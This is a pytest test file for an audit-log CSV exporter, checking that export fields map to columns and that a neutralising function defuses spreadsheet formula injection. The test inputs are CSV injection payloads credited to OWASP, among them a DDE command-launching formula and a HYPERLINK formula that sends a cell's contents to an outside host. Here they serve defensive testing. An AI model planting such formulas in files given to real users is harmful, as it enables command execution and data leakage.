"""Rows of CSV: every field of an entry, and no formula."""

import csv
import io
import json
import re
from typing import Any

import msgspec
import pytest

from auditlogs.entry import numbers
from auditlogs.entry.schema import Entry
from auditlogs.export import csv_rows
from auditlogs.export.csv_rows import neutral
from tests.factories import make_entry


def leaves(value: Any, path: str = "") -> list[str]:
    """Return the paths of what is no object; the payload is one cell."""
    if isinstance(value, dict) and path != "payload":
        return [each for name in value for each in leaves(value[name], f"{path}.{name}".strip("."))]
    return [path]


def test_every_field_of_an_entry_has_a_column_and_the_columns_have_no_other() -> None:
    person = {"type": "user", "id": "u", "name": "n"}
    entry = make_entry(
        target={"type": "order", "id": "o", "name": "n"},
        decision={
            **dict.fromkeys(("policy", "rule", "version", "reason"), "x"),
            "outcome": "denied",
            "by": person,
        },
        on_behalf_of=[person],
        agent={"version": "1", "model": "m"},
        approval={"id": "a", "outcome": "requested", "argumentsHash": "0" * 64},
        payload={"a": {"b": 1}},
    )
    assert tuple(leaves(msgspec.to_builtins(entry))) == csv_rows.COLUMNS


def test_a_row_has_the_values_of_an_entry() -> None:
    entry = make_entry(payload={"text": 'a "quoted", word', "sum": 12}, duration=1.5)
    names, cells = csv.reader(io.StringIO((csv_rows.header() + csv_rows.row(entry)).decode()))
    row = dict(zip(names, cells, strict=True))
    assert row["id"] == entry.id
    assert row["actor.name"] == entry.actor.name
    assert row["target.id"] == ""
    assert row["duration"] == "1.5"
    assert numbers.decode(row["payload"]) == entry.payload
    assert row["redactions"] == "[]"


# From OWASP's page on CSV injection, and payloads that circulate.
@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.com?x="&A1,"click")',
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹦1",
        "﹢1",
        "﹣1",
        "﹫SUM(1)",
        "−1",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        '"=1',
        "a;=1",
        "a\t=1",
        "a\n=1",
        'a;"=1',
        "x; +1",
        "'=1",
        "x;'=1",
        "\t'\n;'",
    ],
)
def test_no_cell_begins_a_formula_also_where_a_semicolon_separates_cells(text: str) -> None:
    safe = neutral(text)
    for cell in safe.replace("\t", ";").replace("\n", ";").replace("\r", ";").split(";"):
        assert not cell.strip(' "\u00a0\ufeff').startswith(tuple("=+-@＝＋－＠﹦﹢﹣﹫−"))
    # As docs/api.md says.
    assert re.sub(r"""((?:^|[;\t\r\n])[\s"\ufeff\u200b]*)'""", r"\1", safe) == text
    assert not safe.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize(
    "text", ["a=b", "a;b=c", "2026-11-27", "x'=1", "x@example.com", '{"a":-1}', "tool - read", ""]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


@pytest.mark.parametrize(
    "payload",
    [
        {"=a": ";=1"},
        {"a": '; "\n=1', "b": ["\\;-1", ";'=1", "＝1;＋1"]},
        {"'a": "-1", "@": -1, "+": {"−": "\t=1"}},
    ],
)
def test_json_in_a_cell_keeps_its_value_and_no_formula_follows_a_semicolon(
    payload: dict[str, Any],
) -> None:
    entry = make_entry(payload=payload)
    names, cells = csv.reader(io.StringIO((csv_rows.header() + csv_rows.row(entry)).decode()))
    cell = dict(zip(names, cells, strict=True))["payload"]
    assert json.loads(cell) == payload
    assert not [part for part in cell.split(";") if part.strip().startswith(tuple("'=+-@＝＋"))]


def test_a_formula_in_any_field_is_neutralised_and_nowhere_else(account: Any) -> None:
    entry: Entry = make_entry(account.id, actor={"type": "user", "id": "=1", "name": "=2"})
    assert (entry.actor.id, entry.actor.name) == ("=1", "=2")
    cells = next(csv.reader(io.StringIO(csv_rows.row(entry).decode())))
    assert "'=1" in cells
    assert "'=2" in cells
